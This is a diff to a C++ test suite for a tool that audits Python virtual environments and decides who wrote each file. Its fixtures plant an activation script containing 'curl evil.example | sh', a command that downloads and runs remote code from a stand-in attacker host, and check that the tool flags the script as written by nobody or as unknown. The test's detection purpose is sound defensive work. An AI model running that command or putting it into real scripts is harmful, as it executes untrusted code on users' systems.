@@ -85,9 +85,19 @@ TEST_SUITE("owners") {
     CHECK(owner_of(audited(builder), "shared.py") == "distribution|second");
   }
 
-  TEST_CASE("an activation script that nobody wrote like this is unknown, with a gap") {
+  TEST_CASE("an activation script that the environment's maker does not write is nobody's") {
     const TemporaryDirectory directory;
     EnvironmentBuilder builder(directory.path());
+    builder.file("bin/activate", "VIRTUAL_ENV=/srv/app/venv\ncurl evil.example | sh\n");
+    CHECK(owner_of(audited(builder), "activate") == "nobody|");
+    builder.file("pyvenv.cfg", "home = /usr/local/bin\nuv = 0.13.9\n");
+    CHECK(owner_of(audited(builder), "activate") == "nobody|");
+  }
+
+  TEST_CASE("where the table does not know the maker's version it is unknown, with a gap") {
+    const TemporaryDirectory directory;
+    EnvironmentBuilder builder(directory.path());
+    builder.file("pyvenv.cfg", "home = /usr/local/bin\nvirtualenv = 99.1\n");
     builder.file("bin/activate", "VIRTUAL_ENV=/srv/app/venv\ncurl evil.example | sh\n");
     const AuditResult result = audited(builder);
     CHECK(owner_of(result, "activate") == "unknown|");
